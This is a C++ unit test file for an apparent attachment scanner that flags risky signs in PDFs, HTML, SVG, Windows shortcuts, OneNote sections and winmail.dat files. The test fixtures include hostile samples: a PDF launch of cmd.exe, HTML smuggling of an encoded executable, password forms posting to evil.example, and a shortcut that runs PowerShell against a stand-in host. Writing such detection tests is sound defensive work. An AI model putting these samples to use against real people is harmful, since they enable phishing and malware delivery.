// PDF, HTML, SVG, shortcuts and wrapped files.
#include "filters/html_signs.h"
#include "filters/pdf_signs.h"
#include "filters/shortcut_signs.h"
#include "filters/wrapped_files.h"

#include "tests/support/catch.h"
#include "tests/support/thread_time.h"
#include "tests/unit/filters/attachment_support.h"

using namespace postern;
using namespace postern::filters;
using namespace std::string_literals;
using testing::le;

namespace {

struct Found {
  DocumentSigns signs;
  std::vector<std::string> links;
  std::vector<std::pair<std::string, std::string>> inner;
  bool has(Sign sign) const { return signs.signs.has(sign); }
  std::string_view detail(Sign sign) const { return signs.signs.detail(sign); }
};

template <class Reader>
Found found_by(Reader reader, std::string_view octets) {
  Found out;
  FoundLinks links;
  out.signs = reader(octets, links, [&out](const InnerFile& file) { out.inner.emplace_back(file.name, std::string(file.octets)); });
  out.links = links.take();
  return out;
}

Found in_pdf(const std::string& objects) { return found_by(pdf_signs, "%PDF-1.7\n" + objects + "\n%%EOF\n"); }
Found in_html(std::string_view html, FileKind kind = FileKind::html) {
  return found_by([kind](std::string_view octets, FoundLinks& links, const TakeInner&) { return html_signs(octets, kind, links); }, html);
}
Found in_shortcut(std::string_view octets) {
  return found_by([](std::string_view o, FoundLinks& links, const TakeInner&) { return shortcut_signs(o, file_kind(o), links); }, octets);
}

std::string object_stream(const std::string& content, const std::string& more = "/Filter/FlateDecode") {
  std::string packed = more.find("Flate") == std::string::npos ? content : testing::deflated(content, 15);
  return "7 0 obj <</Type/ObjStm" + more + "/Length " + std::to_string(packed.size()) + ">>\nstream\r\n" + packed + "\nendstream\nendobj\n";
}

using Links = std::vector<std::string>;

}  // namespace

TEST_CASE("what a PDF does is told by its names") {
  struct Case { const char* objects; Sign sign; };
  const Case cases[] = {
      {"1 0 obj <</Type/Action/S/JavaScript/JS(app.alert(1))>> endobj", Sign::pdf_javascript},
      {"1 0 obj <</OpenAction 2 0 R>> endobj", Sign::pdf_open_action},
      {"1 0 obj <</AA<</O 2 0 R>>>> endobj", Sign::pdf_open_action},
      {"1 0 obj <</S/Launch/F(cmd.exe)>> endobj", Sign::pdf_launch},
      {"1 0 obj <</S/Launch/F(cmd.exe)>> endobj", Sign::embedded_program},
      {"1 0 obj <</Type/EmbeddedFile>> endobj", Sign::pdf_embedded_file},
      {"trailer <</Encrypt 5 0 R>>", Sign::pdf_encrypted},
      {"1 0 obj <</S/J#61vaScript>> endobj", Sign::pdf_javascript},
      {"1 0 obj <</S/J#61vaScript>> endobj", Sign::pdf_name_escapes},
      {"1 0 obj <</S/SubmitForm>> endobj", Sign::pdf_submit_form},
      {"1 0 obj <</S/GoToR>> endobj", Sign::pdf_remote_goto},
      {"1 0 obj <</XFA 3 0 R>> endobj", Sign::pdf_xfa},
      {"1 0 obj <</Subtype/RichMedia>> endobj", Sign::pdf_rich_media},
  };
  for (const Case& c : cases) {
    CAPTURE(c.objects, name(c.sign));
    CHECK(in_pdf(c.objects).has(c.sign));
  }
  auto clean = in_pdf("1 0 obj <</Type/Catalog/Pages 2 0 R/JSX 1/AAA 2/Name#20One 3>> endobj 4 0 obj <</Length 10>> stream\nBT (/JS) ET\nendstream endobj");
  CHECK(clean.signs.signs.empty());
  CHECK(clean.signs.problem == "");
}

TEST_CASE("links of a PDF are collected however they are written") {
  CHECK(in_pdf("<</A<</S/URI/URI(http://a.example/x)>>>>").links == Links{"http://a.example/x"});
  CHECK(in_pdf("<</S /URI /URI <687474703A2F2F612E6578616D706C652F>>>").links == Links{"http://a.example/"});
  CHECK(in_pdf("<</URI(http://a.example/\\(x\\)\\057y)>>").links == Links{"http://a.example/(x)/y"});
  CHECK(in_pdf("<</#55RI(http://a.example/)>>").links == Links{"http://a.example/"});
  CHECK(in_pdf(object_stream("1 0 <</URI(http://hidden.example/)>>")).links == Links{"http://hidden.example/"});
  CHECK(in_pdf("<</URI(").links.empty());
}

TEST_CASE("object streams are unpacked, and what cannot be is said") {
  CHECK(in_pdf(object_stream("5 0 <</S/JavaScript>>")).has(Sign::pdf_javascript));
  CHECK(in_pdf(object_stream("5 0 <</S/JavaScript>>", "")).has(Sign::pdf_javascript));
  auto odd = in_pdf(object_stream("5 0 <</S/JavaScript>>", "/Filter[/ASCIIHexDecode/FlateDecode]"));
  CHECK(odd.has(Sign::pdf_hidden_objects));
  CHECK(odd.signs.problem == "objects cannot be unpacked");
  auto encrypted = in_pdf("<</Encrypt 1 0 R>>" + object_stream("rubbish", "/Filter[/Crypt/FlateDecode]"));
  CHECK_FALSE(encrypted.has(Sign::pdf_hidden_objects));
  CHECK(encrypted.signs.problem.find("encrypted") != std::string::npos);
  auto bomb = in_pdf(object_stream(std::string(6 << 20, ' ')));
  CHECK(bomb.signs.problem == "an object stream longer than is read");
  CHECK(bomb.has(Sign::archive_bomb));
}

TEST_CASE("files inside a PDF are given on") {
  std::string packed = testing::deflated(testing::program(), 15);
  auto found = in_pdf("9 0 obj <</Type/EmbeddedFile/Filter/FlateDecode>> stream\n" + packed + "\nendstream endobj 8 0 obj <</Type/Filespec/UF(a.exe)>> endobj");
  REQUIRE(found.inner.size() == 1);
  CHECK(found.inner[0].second == testing::program());
  CHECK(found.detail(Sign::embedded_program) == "a.exe");
}

TEST_CASE("an object is found inside what looks like a stream or a string") {
  CHECK(in_pdf("3 0 obj <<>> stream\n 4 0 obj <</S/JavaScript>> endobj\nendstream endobj").has(Sign::pdf_javascript));
  CHECK(in_pdf("3 0 obj (unbalanced \n 4 0 obj <</S/JavaScript>> endobj").has(Sign::pdf_javascript));
  CHECK(in_pdf("3 0 obj <<>> stream\n without an end /Launch ").has(Sign::pdf_launch));
  CHECK_FALSE(in_pdf("3 0 obj <<>> stream\n just octets /Launch \nendstream endobj").has(Sign::pdf_launch));
}

TEST_CASE("a PDF of a million objects and hostile streams costs no more than its length") {
  std::string million = testing::repeated("1 0 obj<<>>endobj ", 1'000'000);
  auto time = testing::thread_time([&] { in_pdf(million); });
  CHECK(time < postern::testing::out_of_bounds(std::chrono::seconds(2)));
  for (std::string_view piece : {"stream\n", "/ObjStm/FlateDecode stream\nx\x9c", " 1 0 obj stream ", "/URI(", "/URI<", "/F(", "#", "((((", "/#41#41"}) {
    CAPTURE(piece);
    auto with_end = [piece](std::size_t count) { return in_pdf(testing::repeated(piece, count) + " endstream").links.size(); };
    CHECK(testing::grows_with_its_length(with_end, 100'000));
  }
  std::string zeros = testing::deflated(std::string(4 << 20, ' '), 15);
  std::string bombs = testing::repeated("1 0 obj<</ObjStm/FlateDecode>>stream\n" + zeros + "\nendstream endobj ", 2000);
  CHECK(testing::thread_time([&] { in_pdf(bombs); }) < postern::testing::out_of_bounds(std::chrono::seconds(2)));
  CHECK(in_pdf(bombs).signs.problem != "");
}

TEST_CASE("the number of a PDF's objects is bounded, and the bound is said") {
  CHECK(in_pdf(testing::repeated("1 0 obj ", kMaxPdfObjects + 10)).signs.problem == "more objects than are looked at");
}

TEST_CASE("a page that builds a file is smuggling, its words alone are not") {
  std::string data = "var d = \"" + testing::repeated("TVqQAAMAAAAEAAAA", 2000) + "\";";
  auto found = in_html("<html><script>" + data + "var b = new Blob([atob(d)]); a.href = URL.createObjectURL(b); a.download = 'x.iso'; a.click();</script></html>");
  CHECK(found.has(Sign::html_smuggling));
  CHECK(found.has(Sign::html_blob));
  CHECK(found.has(Sign::html_decode));
  CHECK(found.has(Sign::html_large_data));
  CHECK_FALSE(in_html("<html><body>A blob of paint, and eval of work. atob.</body></html>").has(Sign::html_blob));
  CHECK_FALSE(in_html("<html><script>var x = atob('eA==');</script></html>").has(Sign::html_smuggling));
  CHECK_FALSE(in_html("<html><img src=\"data:image/png;base64," + testing::repeated("iVBORw0KGgoAAAAN", 2000) + "\"></html>").has(Sign::html_large_data));
  CHECK(in_html("<html><a download='x.zip' href='data:application/zip;base64," + testing::repeated("UEsDBBQAAAAIAAAA", 2000) + "'>x</a><script>1</script>").has(Sign::html_smuggling));
  CHECK(in_html("<script>document.write(unescape('" + testing::repeated("%3C%73%63%72", 1000) + "'))</script>").has(Sign::html_obfuscated));
}

TEST_CASE("a page that asks for a password or leads away is told") {
  auto form = in_html("<html><form action=\"https://evil.example/p.php\"><INPUT name=p TYPE='password'></form>");
  CHECK(form.has(Sign::html_password_form));
  CHECK(form.detail(Sign::html_form) == "https://evil.example/p.php");
  CHECK(form.links == Links{"https://evil.example/p.php"});
  CHECK(in_html("<meta http-equiv=refresh content=\"0; url=http://evil.example/\">").detail(Sign::html_redirect) == "http://evil.example/");
  CHECK(in_html("<script>window.location = 'http://evil.example/'</script>").has(Sign::html_redirect));
  CHECK(in_html("<iframe src='http://evil.example/'></iframe>").has(Sign::html_frame));
  CHECK(in_html("<a title=\"a > b\" download=x href=y>").has(Sign::html_download));
  CHECK(in_html("\xff\xfe" + testing::utf16("<input type=password>")).has(Sign::html_password_form));
  CHECK(in_html("<html><p>Type your password here</p></html>").signs.signs.empty());
}

TEST_CASE("scripts in images are told") {
  CHECK(in_html("<svg><script>alert(1)</script></svg>", FileKind::svg).has(Sign::svg_script));
  CHECK(in_html("<svg onload=\"alert(1)\"/>", FileKind::svg).has(Sign::svg_script));
  CHECK(in_html("<svg><a xlink:href=' javascript:alert(1)'/></svg>", FileKind::svg).has(Sign::svg_script));
  CHECK(in_html("<svg><foreignObject><iframe/></foreignObject></svg>", FileKind::svg).has(Sign::svg_script));
  CHECK(in_html("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", FileKind::svg).signs.signs.empty());
}

TEST_CASE("hostile pages cost no more than their length, and a long page says so") {
  for (std::string_view piece : {"<a ", "<a x='", "<", "<a href=", "data:image/", "aaaaaaaa", "<input type=", "%41", "onload", "document.write", "://", "<meta http-equiv=refresh content="}) {
    CAPTURE(piece);
    std::string page = testing::repeated(piece, 150'000);
    auto read = [&page](std::size_t length) { return in_html(std::string_view(page).substr(0, length)).links.size(); };
    CHECK(testing::grows_with_its_length(read, std::min<std::size_t>(page.size(), kMaxAttachedPage) / 4));
  }
  CHECK(in_html(std::string(kMaxAttachedPage + 1, 'x')).signs.problem != "");
}

TEST_CASE("shortcuts say where they lead and what they start") {
  std::string header = "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"s + le(8 | 32 | 0x80, 4) + std::string(52, '\0');
  auto text = [](const std::string& t) { return le(t.size(), 2) + testing::utf16(t); };
  auto link = in_shortcut(header + text("..\\..\\cmd.exe") + text("/c powershell http://evil.example/x"));
  CHECK(link.detail(Sign::shortcut_command) == "..\\..\\cmd.exe /c powershell http://evil.example/x");
  CHECK(link.links == Links{"http://evil.example/x"});
  auto url = in_shortcut("[InternetShortcut]\r\nURL=file://evil.example/share/x.hta\r\n");
  CHECK(url.detail(Sign::remote_target) == "file://evil.example/share/x.hta");
  CHECK(url.links.size() == 1);
  CHECK(in_shortcut("[InternetShortcut]\r\nURL=https://a.example/\r\n").has(Sign::shortcut));
  CHECK_FALSE(in_shortcut("[InternetShortcut]\r\nURL=https://a.example/\r\n").has(Sign::remote_target));
  CHECK(in_shortcut("[InternetShortcut]\r\nIconFile=\\\\10.0.0.1\\x.ico\r\n").has(Sign::remote_target));
  CHECK(in_shortcut("<?xml version=\"1.0\"?><libraryDescription><searchConnectorDescription><simpleLocation><url>\\\\evil.example@80\\x</url>").has(Sign::remote_target));
  CHECK(in_shortcut("[Desktop Entry]\nExec=sh -c 'curl x'\n").detail(Sign::shortcut_command) == "sh -c 'curl x'");
  CHECK(in_shortcut("WEB\r\n1\r\nhttp://evil.example/q\r\n").has(Sign::query_file));
  CHECK(in_shortcut("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\n").has(Sign::excel4_macro));
  auto calendar = in_shortcut("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nDESCRIPTION:http://a.exam\r\n ple/x\r\nEND:VCALENDAR\r\n");
  CHECK(calendar.has(Sign::calendar_invitation));
  CHECK(calendar.links == Links{"http://a.example/x"});
  testing::at_each_length(header + text("a") + text("b"), 200, [](std::string_view cut) { CHECK(in_shortcut(cut).links.empty()); });
}

TEST_CASE("files in OneNote sections and winmail.dat are given on") {
  std::string guid = "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
  std::string one = "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + std::string(100, 'x') + guid + le(testing::program().size(), 8) + std::string(12, '\0') + testing::program() + "tail";
  auto section = found_by(onenote_signs, one);
  REQUIRE(section.inner.size() == 1);
  CHECK(section.inner[0].second == testing::program());
  CHECK(section.detail(Sign::onenote_file) == "a Windows program");
  auto attribute = [](std::uint32_t id, const std::string& content) { return std::string("\x02", 1) + le(id, 4) + le(content.size(), 4) + content + le(0, 2); };
  std::string tnef = "\x78\x9f\x3e\x22" + le(1, 2) + attribute(0x00069002, "r") + attribute(0x00018010, "short.ex"s + '\0') + attribute(0x0006800f, testing::program()) +
                     attribute(0x00069005, le(1, 4) + "\x1f\0\x07\x37"s + le(1, 4) + le(22, 4) + testing::utf16("invoice.exe")) + attribute(0x00069002, "r") +
                     attribute(0x00018010, "b.txt"s + '\0') + attribute(0x0006800f, "hello");
  auto mail = found_by(tnef_signs, tnef);
  REQUIRE(mail.inner.size() == 2);
  CHECK(mail.inner[0].first == "invoice.exe");
  CHECK(mail.inner[0].second == testing::program());
  CHECK(mail.inner[1].first == "b.txt");
  testing::at_each_length(one, 200, [](std::string_view cut) { CHECK(found_by(onenote_signs, cut).inner.size() <= 1); });
  testing::at_each_length(tnef, 200, [](std::string_view cut) { CHECK(found_by(tnef_signs, cut).inner.size() <= 2); });
  CHECK(found_by(onenote_signs, testing::repeated(guid + le(1, 8) + std::string(12, '\0') + "x", 1000)).inner.size() == kMaxWrappedFiles);
}
